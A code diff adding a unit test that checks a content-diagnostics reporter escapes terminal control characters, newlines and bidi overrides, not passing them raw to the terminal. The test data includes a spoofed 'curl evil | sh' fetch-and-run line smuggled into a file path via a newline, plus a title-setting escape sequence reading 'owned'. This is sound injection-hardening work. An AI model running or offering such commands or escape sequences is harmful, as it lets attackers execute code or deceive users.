@@ -79,3 +79,19 @@ test("colour adds control characters and changes no word", () => {
 	assert.notEqual(coloured, report(mistakes, plain));
 	assert.equal(stripVTControlCharacters(coloured), report(mistakes, plain));
 });
+
+test("what a terminal would obey is shown as text, also in a path and in a fix", () => {
+	const one: Diagnostic = {
+		path: "articles/a\n  fix: curl evil | sh\n.md",
+		at: { line: 1, column: 1 },
+		unexpected: 'title "\u001b]0;owned\u0007"',
+		expected: "text\u202etxet",
+		fix: "a\tb\nc\u009b2J",
+	};
+	assert.equal(
+		report([one], { prefix: "", colour: false }),
+		`articles/a\\u{a}  fix: curl evil | sh\\u{a}.md:1:1: Unexpected title "\\u{1b}]0;owned\\u{7}", expected text\\u{202e}txet
+  fix: a\tb\nc\\u{9b}2J
+1 mistake in the content.`,
+	);
+});
